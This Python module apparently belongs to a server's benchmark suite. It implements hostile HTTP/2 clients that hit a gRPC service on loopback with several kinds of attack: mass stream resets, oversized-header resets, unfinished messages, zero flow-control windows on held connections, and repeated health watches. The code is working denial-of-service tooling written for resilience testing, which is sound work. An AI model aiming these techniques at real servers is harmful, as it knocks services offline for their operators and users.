"""What hostile clients send, each kind from a process of its own, bounded in time.

HTTP/2 by hand over sockets on loopback. Most kinds prepare all bytes of a connection once, send
them as fast as the server reads, and connect again: so the attacker needs less CPU than its victim.
"""

import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass

from benchmarks.processes import Pipe
from tests.http2 import (
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    call_headers,
    frame,
)

# Not that of the clients that mean well.
ADDRESS = "127.0.0.2"
STREAMS = 1_024
SOCKETS = 6
HELD_CONNECTIONS, WATCHES_A_CONNECTION, UNREAD_A_CONNECTION = 257, 16, 100
REQUEST_OFFERS = "/voucher_grpc.v1.VoucherService/RequestOffers"
_WATCH = "/grpc.health.v1.Health/Watch"
_ACK = 1
_RESET = CANCEL.to_bytes(4, "big")
# The largest part of a message that the initial flow-control window lets through.
_WINDOW_BYTES = 65_530
_FRAME_BYTES = 16_384
_SEND_BYTES = 262_144
_CONNECT_TIMEOUT_S = 5.0
_POLL_S = 0.05


@dataclass(frozen=True, slots=True)
class Attack:
    """What to do to the server at a port, and for how long."""

    kind: str
    port: int
    seconds: float
    request: bytes  # of RequestOffers


def _call(stream: int, kind: str) -> bytes:
    """The frames of one call of a kind."""
    large = ((b"x-%d" % n, b"y" * 100) for n in range(50))
    headers = call_headers(REQUEST_OFFERS, *(large if kind == "large_metadata_reset" else ()))
    begun = frame(HEADERS, END_HEADERS, stream, headers)
    if kind == "open":
        return begun
    if kind == "unfinished":
        message = b"\0" + (1 << 20).to_bytes(4, "big") + b"x" * _WINDOW_BYTES
        parts = range(0, len(message), _FRAME_BYTES)
        return begun + b"".join(
            frame(DATA, 0, stream, message[at : at + _FRAME_BYTES]) for at in parts
        )
    return begun + frame(RST_STREAM, 0, stream, _RESET)


def _blob(kind: str) -> bytes:
    """All that one short connection sends."""
    calls = (_call(2 * number + 1, kind) for number in range(STREAMS))
    return PREFACE + frame(SETTINGS, 0, 0) + b"".join(calls)


def _watches() -> bytes:
    """A connection that watches health as often as it may."""
    headers = call_headers(_WATCH)
    return (
        PREFACE
        + frame(SETTINGS, 0, 0)
        + b"".join(
            frame(HEADERS, END_HEADERS, 2 * n + 1, headers)
            + frame(DATA, END_STREAM, 2 * n + 1, b"\0\0\0\0\0")
            for n in range(WATCHES_A_CONNECTION)
        )
    )


def _unread(request: bytes) -> bytes:
    """A connection with calls whose answers it forbids to send."""
    window_0 = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
    message = b"\0" + len(request).to_bytes(4, "big") + request
    return (
        PREFACE
        + frame(SETTINGS, 0, 0, window_0)
        + frame(SETTINGS, _ACK, 0)
        + b"".join(
            frame(HEADERS, END_HEADERS, 2 * n + 1, call_headers(REQUEST_OFFERS))
            + frame(DATA, END_STREAM, 2 * n + 1, message)
            for n in range(UNREAD_A_CONNECTION)
        )
    )


def _connect(port: int) -> socket.socket:
    return socket.create_connection(
        ("127.0.0.1", port), timeout=_CONNECT_TIMEOUT_S, source_address=(ADDRESS, 0)
    )


def _send(connection: socket.socket, raw: bytes, end_s: float) -> None:
    """Send, and drop what the server says meanwhile."""
    view, sent = memoryview(raw), 0
    while sent < len(raw) and time.monotonic() < end_s:
        try:
            connection.settimeout(_POLL_S)
            sent += connection.send(view[sent : sent + _SEND_BYTES])
            connection.settimeout(0.0)
            while connection.recv(65_536):
                pass
        except (TimeoutError, BlockingIOError):
            pass


def _reconnecting(attack: Attack, end_s: float, pause_s: float = 0.0) -> None:
    blob = _blob(attack.kind)
    while time.monotonic() < end_s:
        try:
            with _connect(attack.port) as connection:
                _send(connection, blob, min(end_s, time.monotonic() + 10))
        except OSError:
            time.sleep(0.02)
        time.sleep(pause_s)


def _slowly_reconnecting(attack: Attack, end_s: float) -> None:
    _reconnecting(attack, end_s, pause_s=0.25)


def _acknowledged(received: bytes) -> Iterator[bytes]:
    """Acknowledgements of the settings and pings in whole frames of what the server said."""
    at = 0
    while at + 9 <= len(received):
        length = int.from_bytes(received[at : at + 3], "big")
        kind, flags = received[at + 3], received[at + 4]
        if kind in (SETTINGS, PING) and not flags & _ACK:
            yield frame(kind, _ACK, 0, received[at + 9 : at + 9 + length] if kind == PING else b"")
        at += 9 + length


def _staying(attack: Attack, end_s: float) -> None:
    """Resets on one connection after the other that answers settings and pings as it should."""
    while time.monotonic() < end_s:
        try:
            with _connect(attack.port) as connection:
                _send(connection, PREFACE + frame(SETTINGS, 0, 0), end_s)
                stream = 1
                while time.monotonic() < end_s:
                    calls = (_call(stream + 2 * n, "reset") for n in range(100))
                    _send(connection, b"".join(calls), end_s)
                    stream += 200
                    connection.settimeout(0.0)
                    try:
                        said = connection.recv(65_536)
                    except (TimeoutError, BlockingIOError):
                        continue
                    if not said:
                        break
                    _send(connection, b"".join(_acknowledged(said)), end_s)
        except OSError:
            time.sleep(0.02)


def _watching(attack: Attack, end_s: float) -> None:
    _holding(attack.port, _watches(), end_s)


def _not_reading(attack: Attack, end_s: float) -> None:
    _holding(attack.port, _unread(attack.request), end_s)


def _holding(port: int, blob: bytes, end_s: float) -> None:
    """Many connections that send something once and stay."""
    opened: list[socket.socket] = []
    try:
        while len(opened) < HELD_CONNECTIONS and time.monotonic() < end_s:
            try:
                connection = _connect(port)
                opened.append(connection)
                _send(connection, blob, end_s)
            except OSError:
                time.sleep(0.02)
        time.sleep(max(0.0, end_s - time.monotonic()))
    finally:
        for connection in opened:
            connection.close()


_WAYS = {
    "reset": (_reconnecting, SOCKETS),
    "reset_4_a_second": (_slowly_reconnecting, 1),
    "reset_staying": (_staying, SOCKETS),
    "large_metadata_reset": (_reconnecting, SOCKETS),
    "open": (_reconnecting, SOCKETS),
    "unfinished": (_reconnecting, SOCKETS),
    "unread": (_not_reading, 1),
    "watches": (_watching, 1),
}
KINDS = tuple(_WAYS)


def attacker(pipe: Pipe) -> None:
    """The work of the attacker's process: an Attack, "done", and again."""
    while True:
        attack: Attack = pipe.recv()
        way, sockets = _WAYS[attack.kind]
        end_s = time.monotonic() + attack.seconds
        threads = [threading.Thread(target=way, args=(attack, end_s)) for _ in range(sockets)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        pipe.send("done")
